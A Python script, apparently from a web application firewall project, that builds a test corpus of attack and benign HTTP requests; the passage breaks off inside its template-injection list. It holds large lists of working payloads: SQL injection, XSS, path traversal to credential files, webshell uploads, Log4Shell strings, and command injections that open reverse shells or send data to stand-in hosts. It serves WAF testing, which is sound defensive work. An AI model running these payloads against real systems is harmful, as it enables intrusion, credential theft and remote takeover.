#!/usr/bin/env python3
"""Third held-out corpus: real-world attack payload styles and hard benign production traffic.

Prints JSONL (the shape described in ../shared/corpora/README.md) to stdout:

  corpus-realworld.py attacks > rulesets/tests/data/realworld-attacks.jsonl
  corpus-realworld.py benign  > rulesets/tests/data/realworld-benign.jsonl
  corpus-realworld.py meta attacks   # id, placement and decoded payload, one JSON per line

Attacks are written in the styles of real tooling and bug-bounty reports (sqlmap tampers,
commix, XSS polyglots, Log4Shell obfuscation, cloud metadata SSRF, XXE, SSTI, smuggling,
scanner user agents ...), each placed where a real client would put it (query, form, JSON,
XML, multipart, cookie, headers, path) and URL-encoded as that client would.  Benign traffic
is what a production app sees and a WAF finds hard: prose with SQL-ish words, names with
apostrophes, unicode, JWTs, URLs as values, GraphQL, webhooks, uploads, OAuth.

Deterministic (fixed seed); stdlib only.
"""
import base64
import hashlib
import json
import random
import sys
import urllib.parse as up

SEED = 31337

# ---------------------------------------------------------------------------------------
# common helpers
# ---------------------------------------------------------------------------------------

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.113 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
]
UA_APPS = [
    "okhttp/4.12.0",
    "axios/1.6.8",
    "ShopMate/7.3.0 (iPhone; iOS 17.4.1; Scale/3.00)",
    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
]
HOSTS = ["shop.example.com", "api.example.com", "app.example.org", "portal.example.net",
         "www.example.com", "blog.example.io"]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.6",
         "ja-JP,ja;q=0.9,en;q=0.5", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.8"]

R = random.Random(SEED)


def rhex(n, rng=None):
    rng = rng or R
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def uuid4(rng=None):
    h = rhex(32, rng)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def b64url(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def make_jwt(claims, rng=None):
    rng = rng or R
    hdr = b64url(json.dumps({"alg": "RS256", "typ": "JWT", "kid": rhex(16, rng)}, separators=(",", ":")).encode())
    pl = b64url(json.dumps(claims, separators=(",", ":"), ensure_ascii=False).encode())
    sig = b64url(bytes(rng.randrange(256) for _ in range(64)))
    return f"{hdr}.{pl}.{sig}"


def q(s, safe=""):
    return up.quote(s, safe=safe)


def qp(s):
    return up.quote_plus(s)


def browser_headers(host, rng, accept="html", cookie=None, referer=None, ua=None):
    ua = ua or rng.choice(UA_BROWSERS)
    acc = {
        "html": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        "json": "application/json, text/plain, */*",
        "any": "*/*",
    }[accept]
    h = [["Host", host], ["User-Agent", ua], ["Accept", acc],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if "Chrome" in ua and "Mobile" not in ua:
        h.append(["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'])
        h.append(["sec-ch-ua-mobile", "?0"])
        h.append(["sec-ch-ua-platform", '"Windows"'])
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie])
    return h


def std_cookie(rng):
    t = 1712000000 + rng.randrange(10 ** 7)
    parts = [f"_ga=GA1.2.{rng.randrange(10**8, 10**9)}.{t}", f"sessionid={rhex(32, rng)}"]
    if rng.random() < 0.5:
        parts.append(f"csrftoken={b64url(bytes(rng.randrange(256) for _ in range(24)))}")
    if rng.random() < 0.3:
        parts.append("cookie_consent=analytics%3Atrue%2Cmarketing%3Afalse")
    return "; ".join(parts)


def with_body(headers, ctype, body):
    h = [list(x) for x in headers]
    h.append(["Content-Type", ctype])
    h.append(["Content-Length", str(len(body.encode("utf-8")))])
    return h


def multipart(fields, rng):
    """fields: list of (name, value, filename|None, ctype|None). Returns (ctype, body)."""
    boundary = "----WebKitFormBoundary" + "".join(
        rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
    out = []
    for name, value, filename, ctype in fields:
        out.append("--" + boundary)
        if filename is not None:
            out.append(f'Content-Disposition: form-data; name="{name}"; filename="{filename}"')
            out.append(f"Content-Type: {ctype or 'application/octet-stream'}")
        else:
            out.append(f'Content-Disposition: form-data; name="{name}"')
        out.append("")
        out.append(value)
    out.append("--" + boundary + "--")
    out.append("")
    return "multipart/form-data; boundary=" + boundary, "\r\n".join(out)


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def record(rid, setname, category, expect, method, uri, headers, body=None):
    r = {"id": rid, "set": "realworld", "category": category, "expect": expect, "method": method,
         "uri": uri, "version": "HTTP/1.1", "headers": headers}
    if body is not None:
        r["body"] = body
    return r


# ---------------------------------------------------------------------------------------
# attacks
# ---------------------------------------------------------------------------------------
# Each payload is (text, places) or text.  A text starting with "RAW:" is already percent-
# encoded by the attacking tool and is inserted into URLs/form bodies as is.
# places: subset of PLACES; default per category.

PLACES_ALL = ["query", "form", "json", "xml", "multipart", "cookie", "referer", "ua",
              "xfh", "xcustom", "path"]

SQLI = [
    "1' AND SLEEP(5)-- -",
    ("1) AND (SELECT 4721 FROM (SELECT(SLEEP(5)))xKzq) AND (8135=8135", ["query", "form", "json"]),
    "1'/**/AND/**/(SELECT/**/2211/**/FROM/**/(SELECT(SLEEP(5)))aBcd)--/**/-",
    "1 AND 5719 BETWEEN 5719 AND 5719",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 0,1),1,1)) NOT BETWEEN 0 AND 97-- -",
    ("RAW:%31%27%20%41%4E%44%20%38%36%32%31%3D%38%36%32%31%20%2D%2D%20%2D", ["query", "form", "cookie"]),
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(table_name) /*!50000FROM*/ information_schema.tables-- -",
    "-1' UNION ALL SELECT NULL,NULL,CONCAT(0x7176627671,IFNULL(CAST(user() AS NCHAR),0x20),0x716a6b7a71)-- -",
    "1 AND EXTRACTVALUE(2841,CONCAT(0x5c,0x7178766b71,(SELECT (ELT(2841=2841,1))),0x716b6a6271))",
    "1' AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version),0x7e),1)-- -",
    "1 AND (SELECT 6188 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(6188=6188,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    "1;SELECT PG_SLEEP(5)--",
    "1' AND 4412=(SELECT 4412 FROM PG_SLEEP(5))-- ",
    "1 AND 7771=CAST((CHR(113)||CHR(122)||(SELECT (CASE WHEN (7771=7771) THEN 1 ELSE 0 END))::text||CHR(113)) AS NUMERIC)",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://x9k2.oast.fun/$(whoami)'--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1); EXEC xp_cmdshell 'ping -n 3 10.13.37.1'--",
    "1 AND 3346=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+(SELECT TOP 1 name FROM sysobjects)+CHAR(113)))",
    "'; DECLARE @q VARCHAR(99);SET @q='\\\\x7k.oast.site\\a';EXEC master.dbo.xp_dirtree @q;--",
    "1;EXEC sp_configure 'show advanced options',1;RECONFIGURE;--",
    "1' AND 5123=DBMS_PIPE.RECEIVE_MESSAGE(CHR(75)||CHR(100),5)-- ",
    "' UNION SELECT NULL,banner FROM v$version WHERE ROWNUM=1--",
    "1 AND 8021=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT user FROM DUAL)||CHR(62))) FROM DUAL)",
    "' || UTL_HTTP.REQUEST('http://ora.oast.live/'||(SELECT user FROM dual)) || '",
    "1' AND CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1))=1--",
    "1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "' UNION SELECT 1,sql,3 FROM sqlite_master--",
    "1 AND sqlite_version()=sqlite_version()",
    "1' OR '1'='1",
    ("admin'-- ", ["form", "json", "multipart"]),
    "' OR 1=1 LIMIT 1 -- -",
    "1' AND 'xYzA'='xYzA",
    ('" OR ""="', ["form", "json", "query"]),
    "1 OR 2>1",
    "x' OR username LIKE '%adm%",
    "1; DROP TABLE sessions--",
    "1'; UPDATE users SET role='admin' WHERE id=7;--",
    "1; INSERT INTO admins(login,pass) VALUES('h4x','p')--",
    "1' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.b7q.oast.me\\\\x'))-- -",
    "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -",
    "1 ORDER BY 12-- -",
    "id) ORDER BY 3#",
    "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
    ("(CASE WHEN (SELECT SUBSTR(user(),1,1))='r' THEN name ELSE price END)", ["query", "json"]),
    "IF(1=1,SLEEP(3),0)",
    "1 RLIKE (SELECT (CASE WHEN (4346=4346) THEN 1 ELSE 0x28 END))",
    "0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z",
    "if(now()=sysdate(),sleep(4),0)/*'XOR(if(now()=sysdate(),sleep(4),0))OR'\"XOR(if(now()=sysdate(),sleep(4),0))OR\"*/",
    "1'||pg_sleep(4)||'",
    ("RAW:1+UNION/*&x=*/SELECT/*&y=*/1,2", ["query"]),
    ("RAW:1'+UNION+ALL+SELECT+NULL,table_name+FROM+information_schema.tables--+-", ["query", "form"]),
    ("RAW:1%0bUNION%0bSELECT%0b1,name,3%0bFROM%0bmaster..sysdatabases", ["query", "form"]),
    ("RAW:1'%09or%091=1--", ["query", "form", "cookie"]),
    "1 uNiOn AlL sElEcT 1,@@VeRsIoN,3",
    "1' aNd (sElEcT 1 fRoM (sElEcT sLeEp(3))a)-- -",
    "1' && 1=1 -- ",
    "1' || '1'='1",
    "1 UNION SELECT 0x61646d696e,2",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,VERSION())),1)",
    "1 AND 1=(SELECT TOP 1 name FROM sys.databases)",
    "';SELECT * FROM OPENROWSET('SQLOLEDB','server=10.0.0.5;uid=sa;pwd=x','select 1')--",
    "1 AND (SELECT current_setting('is_superuser'))='on'",
    "' AND extractvalue(rand(),concat(0x3a,(select schema_name from information_schema.schemata limit 2,1)))#",
    "1' UNION SELECT username||':'||password FROM users--",
    "-7 UNION SELECT load_file('/etc/passwd'),2,3",
    "1/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(0x3a,user())",
    ("RAW:1%2527%2520OR%25201%253D1--", ["query", "path"]),
    "1 AND ELT(5712=5712,SLEEP(5))",
    "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT version()),0x71),3621)",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))",
    "(select*from(select(sleep(7)))a)",
    "1 AND BENCHMARK(5000000,MD5(0x41))",
    ("Mozilla/5.0' AND SLEEP(5) AND '1'='1", ["ua"]),
    ("127.0.0.1' OR 1=1-- ", ["xcustom"]),
    "1' WAITFOR TIME '23:59:59'--",
    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "1' AND (SELECT 'a' FROM dual WHERE 1=1)='a",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),CHAR(64),0x3a,FLOOR(RAND(0)*2)) x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x limit 1)",
    "1 AND MAKE_SET(7340=7340,SLEEP(5))",
    ("1' AnD 1 bEtWeEn 1 aNd 1 aNd 'q'='q", ["query", "cookie", "json"]),
    ("name ASC,(SELECT 1 FROM (SELECT SLEEP(4))t)", ["query"]),
]

XSS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onmouseover=confirm() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=confirm()//>\\x3e",
    "\"><svg/onload=confirm(document.domain)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">clk</a>",
    "<iframe src=\"javascript&colon;alert&lpar;1&rpar;\">",
    ("RAW:java%09script:alert(document.cookie)", ["query", "form"]),
    "{{constructor.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)'>",
    "<img src=x onerror=fetch('https://xss.oast.pro/?c='+document.cookie)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onpageshow=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=\"alert(1)\">",
    "<marquee onstart=alert(1)>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<embed src=\"javascript:alert(1)\">",
    "\"-alert(1)-\"",
    "';alert(String.fromCharCode(88,83,83));//",
    "</script><script>alert(document.domain)</script>",
    "<script src=//xss.report/c/h4ck></script>",
    "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<svg onload=setTimeout`alert\\x281\\x29`>",
    "<x onpointerover=alert(1)>hover",
    "<style>@keyframes k{}</style><xss style=\"animation-name:k\" onanimationstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<base href=\"javascript:/a/-alert(1)///////\">",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    ("RAW:%253Cscript%253Ealert(1)%253C%252Fscript%253E", ["query", "path"]),
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<img src=\"x\" onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">",
    "<a href=\"javascript&#58;alert(1)\">",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<img src=x:x onerror=window['al'+'ert'](1)>",
    "<svg/onload=self[`alert`]`1`>",
    "{{_c.constructor('alert(1)')()}}",
    "data:text/html,<script>alert(1)</script>",
    "<img/src/onerror=alert(1)>",
    ("RAW:%3Csvg%0aonload%3Dalert(1)%3E", ["query", "form"]),
    "\"onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">CLICKME</maction></math>",
    "<svg><foreignObject><iframe onload=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<img src=x onerror=import('//ex.oast.fun/x.js')>",
    "javascript:/**/eval(location.hash.slice(1))",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0iMSIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x\"></use></svg>",
    ("JSONRAW:\\u003cimg src=x onerror=alert(document.domain)\\u003e", ["json"]),
    ("<a onmouseover=\"alert(1)\">hi</a>", ["referer"]),
]

LFI = [
    "../../../../etc/passwd",
    ("RAW:..%2f..%2f..%2f..%2fetc%2fpasswd", ["query", "form", "cookie"]),
    ("RAW:..%252f..%252f..%252fetc%252fpasswd", ["query", "path"]),
    ("RAW:..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", ["query", "path"]),
    ("RAW:%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", ["query"]),
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    ("RAW:../../../../etc/passwd%00.png", ["query", "form"]),
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=/etc/passwd",
    "/proc/self/environ",
    "../../../../proc/self/cmdline",
    "/proc/self/fd/7",
    "..\\..\\..\\..\\windows\\win.ini",
    ("RAW:..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", ["query", "form"]),
    "C:\\boot.ini",
    "C:/Windows/System32/config/SAM",
    "../../../../var/log/apache2/access.log",
    ("RAW:..%u2216..%u2216..%u2216etc%u2216passwd", ["query"]),
    ("/..;/..;/WEB-INF/web.xml", ["pathraw"]),
    "../../WEB-INF/web.xml",
    ("/static/..%2f..%2f..%2f..%2fetc/passwd", ["pathraw"]),
    "....\\/....\\/....\\/etc/passwd",
    ("RAW:%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fgroup", ["query", "form", "cookie"]),
    "/etc/passwd",
    "../../../../root/.ssh/id_rsa",
    "../../../.aws/credentials",
    "../../../../home/deploy/.bash_history",
    ("RAW:zip://uploads/avatar.jpg%23shell.php", ["query"]),
    "phar://./uploads/img.gif/test.txt",
    "../../../../../../usr/local/etc/php/php.ini",
    ("/.%2e/.%2e/.%2e/.%2e/etc/passwd", ["pathraw"]),
    ("RAW:%2e%2e/%2e%2e/%2e%2e/boot.ini", ["query"]),
    "..//..//..//..//etc//passwd",
    ("RAW:....%2f%2f....%2f%2f....%2f%2fetc%2fpasswd", ["query"]),
    "..\\/..\\/..\\/etc\\/passwd",
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", ["pathraw"]),
    ("/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", ["pathraw"]),
    ("/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", ["pathraw"]),
    ("../../../../etc/passwd", ["xcustom"]),
    ("file:///etc/shadow", ["json", "xml"]),
]

RFI = [
    "http://203.0.113.66/r57.txt?",
    "ftp://anonymous@198.51.100.23/pub/c99.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data:text/plain,<?php phpinfo();?>",
    "expect://id",
    ("RAW:expect://ls%20-la%20/", ["query"]),
    ("RAW:http://127.0.0.1:8080/admin.php%00", ["query"]),
    "\\\\203.0.113.9\\share\\shell.php",
    "https://raw.githubusercontent.com/tennc/webshell/master/php/b374k/b374k-2.8.php",
    "hTTp://198.51.100.7/inc.txt??",
    "http://evil.oast.site/shell.txt?",
    ("RAW:http:%2f%2fevil.example%2fshell.php", ["query"]),
    "//evil.oast.me/x.txt?",
    ("RAW:http://evil.oast.me/shell.txt%00", ["query", "form"]),
    "compress.zlib://http://203.0.113.5/p.txt",
    "ssh2.exec://user:pass@203.0.113.5:22/id",
    "ftp://198.51.100.23:2121/shell.php",
    "http://203.0.113.66/r57.txt?&lang=",
    "https://evil-cdn.example/payloads/wso.php?",
    "http://0xcb007142/c.txt?",
]

RCE = [
    ";id",
    "| cat /etc/passwd",
    "$(whoami)",
    "`uname -a`",
    "127.0.0.1;cat$IFS/etc/passwd",
    "127.0.0.1\nid",
    ";cat${IFS}/etc/passwd",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";{cat,/etc/passwd}",
    ";/???/??t /???/p??s??",
    ";/???/n? -e /???/b??h 2130706433 1337",
    "127.0.0.1 && curl http://x.oast.fun/$(id|base64)",
    "|| wget -qO- http://203.0.113.8/s.sh | sh",
    "; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";nc -e /bin/sh 10.0.0.1 4242",
    "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
    "$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
    ";c\\at /e\\tc/pa\\ssw\\d",
    ";c'a't /e\"t\"c/pa''sswd",
    ";who$@ami",
    ";$u cat$u /etc$u/passwd$u",
    "& ping -n 10 127.0.0.1 &",
    "| type C:\\Windows\\win.ini",
    "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "| cmd /c whoami",
    ";sleep 5",
    "&& sleep${IFS}10 #",
    "$(sleep 7)",
    "\nsleep 5\n",
    "|nslookup $(whoami).oast.live",
    "; curl -d @/etc/passwd http://x.oast.site",
    "a;echo${IFS}PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64${IFS}-d>/var/www/html/x.php",
    "file.txt; ls -la /",
    "report.pdf|id",
    "; perl -e 'system(\"id\")'",
    ";{echo,aWQ=}|{base64,-d}|bash",
    "$(</etc/passwd)",
    ";cat</etc/passwd",
    "; ls${IFS}-al${IFS}/home",
    ("() { :; }; /bin/bash -c 'cat /etc/passwd'", ["ua", "referer", "xcustom"]),
    ("() { :;}; echo; /usr/bin/id", ["ua", "xcustom"]),
    ";${IFS}tail${IFS}-n5${IFS}/var/log/auth.log",
    "| php -r 'system(\"id\");'",
    ";ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"10.0.0.1\",\"4242\");loop{c.gets.chomp}'",
    "; awk 'BEGIN {system(\"id\")}'",
    "; find / -perm -4000 2>/dev/null",
    "$(printf '\\x69\\x64')",
    "&&certutil -urlcache -split -f http://203.0.113.4/a.exe %TEMP%\\a.exe",
    "| mshta http://203.0.113.4/p.hta",
]

PHP = [
    ("FILE:shell.php:<?php system($_GET['c']); ?>", ["upload"]),
    ("FILE:avatar.gif:GIF89a<?php @eval($_POST['pass']);?>", ["upload"]),
    ("FILE:x.phtml:<?=`$_GET[0]`?>", ["upload"]),
    "system('id');",
    "assert($_REQUEST['x'])",
    "phpinfo();",
    "file_put_contents('s.php','<?php eval($_POST[1]);')",
    "eval(base64_decode('ZWNobyBzaGVsbF9leGVjKCdpZCcpOw=='));",
    "call_user_func('system','id')",
    "passthru('ls -la')",
    "shell_exec('cat /etc/passwd')",
    "popen('id','r')",
    "create_function('', 'system(\"id\");')",
    "array_map('system',array('id'))",
    "highlight_file('/etc/passwd')",
    ("O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", ["cookie", "form", "json"]),
    ("a:1:{s:4:\"user\";O:4:\"User\":2:{s:5:\"admin\";b:1;s:4:\"name\";s:4:\"root\";}}", ["cookie", "form"]),
    ("O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":1:{s:13:\"\\0*\\0formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\\0*\\0event\";s:2:\"id\";}", ["form", "cookie"]),
    ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", ["pathraw"]),
    ("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", ["pathraw-body"]),
    ("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", ["pathraw-body"]),
    ("preg_replace", ["preg"]),
    "<?php $s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");?>",
    "include($_GET['p']);",
    "proc_open('id',array(),$p);",
]

JAVA = [
    "${jndi:ldap://x.oast.fun/a}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.9:1389/Exploit}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.oast.me/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/a}",
    "${jndi:dns://${hostName}.x.oast.pro}",
    "${${upper:j}ndi:ldaps://x.oast.fun/${env:AWS_SECRET_ACCESS_KEY}}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.oast.live/p}",
    "${jndi:${lower:r}mi://198.51.100.3:1099/obj}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.oast.fun/z}",
    ("${jndi:ldap://x.oast.site/ua}", ["ua"]),
    ("${jndi:ldap://${sys:java.version}.x.oast.site/api}", ["xcustom"]),
    ("${jndi:ldap://127.0.0.1#x.oast.fun:1389/a}", ["referer", "query"]),
    ("SPRING4SHELL", ["spring4shell"]),
    ("class.module.classLoader.URLs[0]=0", ["formraw"]),
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")", ["springcloud"]),
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.System).getenv()}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    ("%{(#x='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}", ["ctype"]),
    ("/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd\",#a))}/", ["pathenc"]),
    ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I", ["form", "cookie", "json"]),
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.9:1389/Exploit\",\"autoCommit\":true}", ["jsonbody"]),
    ("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://203.0.113.9/x.sql'\"}]", ["jsonbody"]),
    ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", ["xmlbody"]),
    "println \"id\".execute().text",
    "new java.lang.ProcessBuilder(['sh','-c','id']).start()",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
    "${jndi:ldap://x.oast.fun/a}",
    ("${${lower:${lower:j}}${lower:n}${lower:d}i:${lower:l}${lower:d}${lower:a}${lower:p}://x.oast.me/q}", ["json", "cookie"]),
]

GENERIC = [
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{{config.items()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
